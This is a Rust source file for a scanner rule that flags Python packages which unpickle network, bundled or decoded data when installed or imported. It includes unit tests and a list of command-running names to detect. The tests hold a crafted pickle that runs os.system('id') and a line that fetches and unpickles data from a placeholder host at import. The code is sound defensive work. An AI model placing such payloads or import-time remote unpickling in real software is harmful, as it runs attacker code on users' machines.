//! `EXE-005`: a pickle of the distribution, or of the network, is loaded.

use portcullis_core::inspection::{Confidence, Observation, Severity};

use super::sent::{FAR, texts};
use super::{Rule, in_context, observe_call, observe_flow};
use crate::python::{Analysis, Call, Folded, Label, SinkKind};

/// The rule.
pub(super) struct PickledData;

impl Rule for PickledData {
    fn id(&self) -> &'static str {
        "EXE-005"
    }

    fn severity(&self) -> Severity {
        Severity::Medium
    }

    fn title(&self) -> &'static str {
        "a pickle is loaded when the package is imported"
    }

    fn manual(&self) -> &'static str {
        "Data of the distribution or of the network is unpickled on installation or \
         import; a pickle that stands in the code and names a function that runs commands \
         counts more.\n\n\
         To load a pickle is to run it. A distribution that needs data can carry it in a \
         form that is only data.\n\n\
         Mistaken for it: models and tables of scientific packages, loaded when they are \
         asked for."
    }

    fn check(&self, analysis: &Analysis, observations: &mut Vec<Observation>) {
        for flow in &analysis.flows {
            let is_outside = matches!(
                flow.label,
                Label::Net | Label::Dropped | Label::OwnFile | Label::Decoded | Label::Decrypted
            );
            if flow.kind != SinkKind::Deserialise || !is_outside || !unpickles(analysis.sink(flow))
            {
                continue;
            }
            let worst = match () {
                () if flow.hops > FAR => Severity::Low,
                // Objects are made of it before anybody has asked for any.
                () if flow.context.is_unasked() => Severity::High,
                () => Severity::Medium,
            };
            let severity = in_context(worst, flow.context);
            let confidence = Confidence::of(75).in_context(flow.context);
            let message = format!(
                "{} unpickles {}",
                analysis.sink(flow).target,
                flow.label.words()
            );
            observations.push(observe_flow(
                self,
                (analysis, flow),
                (severity, confidence),
                message,
            ));
        }
        for call in analysis
            .calls()
            .filter(|call| unpickles(call) && is_literal(call))
        {
            let worst = if names_command(call) {
                Severity::High
            } else {
                Severity::Medium
            };
            let severity = in_context(worst, call.context);
            let confidence = Confidence::of(85).in_context(call.context);
            let message = format!("{} unpickles constant bytes", call.target);
            observations.push(observe_call(self, call, (severity, confidence), message));
        }
    }
}

fn unpickles(call: &Call) -> bool {
    let module = call.target.split('.').next().unwrap_or_default();
    let is_unsafe_yaml =
        call.target.ends_with(".unsafe_load") || call.code.contains("UnsafeLoader");
    call.sink == Some(SinkKind::Deserialise)
        && match module {
            "pickle" | "dill" | "joblib" | "shelve" | "jsonpickle" => true,
            "torch" => !call.code.contains("weights_only=True"),
            "yaml" => is_unsafe_yaml,
            _ => false,
        }
}

fn is_literal(call: &Call) -> bool {
    let is_blob = |value: &Folded| matches!(value, Folded::Bytes(bytes) if bytes.len() > 4);
    call.arguments
        .first()
        .is_some_and(|each| is_blob(&each.value))
        || call.target.starts_with("jsonpickle")
            && texts(call).iter().any(|text| text.contains("py/reduce"))
}

/// Names, as pickles write them, of what runs commands or code.
const COMMANDS: &[&str] = &[
    "system",
    "popen",
    "subprocess",
    "exec",
    "eval",
    "posix",
    "runpy",
    "__import__",
];

fn names_command(call: &Call) -> bool {
    call.arguments.iter().any(|each| match &each.value {
        Folded::Bytes(bytes) => {
            let text = String::from_utf8_lossy(bytes);
            COMMANDS.iter().any(|name| text.contains(name))
        }
        _ => false,
    })
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, quiet};

    #[test]
    fn pickles_at_import_are_seen() {
        for (path, code) in [
            (
                "demo/__init__.py",
                "import pickle\npickle.loads(b'cos\\nsystem\\n(S\\'id\\'\\ntR.')",
            ),
            (
                "demo/__init__.py",
                "import pickle, os\nwith open(os.path.join(os.path.dirname(__file__), 'model.pkl'), 'rb') as f:\n    m = pickle.load(f)",
            ),
            (
                "setup.py",
                "import base64, pickle as p\np.loads(base64.b64decode(text))",
            ),
            (
                "demo/__init__.py",
                "import torch, pkgutil\ntorch.load(pkgutil.get_data('demo', 'w.bin'))",
            ),
            (
                "demo/__init__.py",
                "import dill, requests\ndill.loads(requests.get('https://models.invalid/a').content)",
            ),
        ] {
            found("EXE-005", path, code);
        }
    }

    #[test]
    fn pickles_on_request_and_plain_data_are_not() {
        for (path, code) in [
            (
                "demo/__init__.py",
                "import pickle, os\ndef load():\n    with open(os.path.join(os.path.dirname(__file__), 'model.pkl'), 'rb') as f:\n        return pickle.load(f)",
            ),
            (
                "demo/__init__.py",
                "import pickle\npickle.loads(pickle.dumps({}))",
            ),
            (
                "demo/__init__.py",
                "import yaml\nyaml.safe_load(open('a.yml'))",
            ),
            ("demo/__init__.py", "import json\njson.load(open('a.json'))"),
        ] {
            quiet("EXE-005", path, code);
        }
    }
}
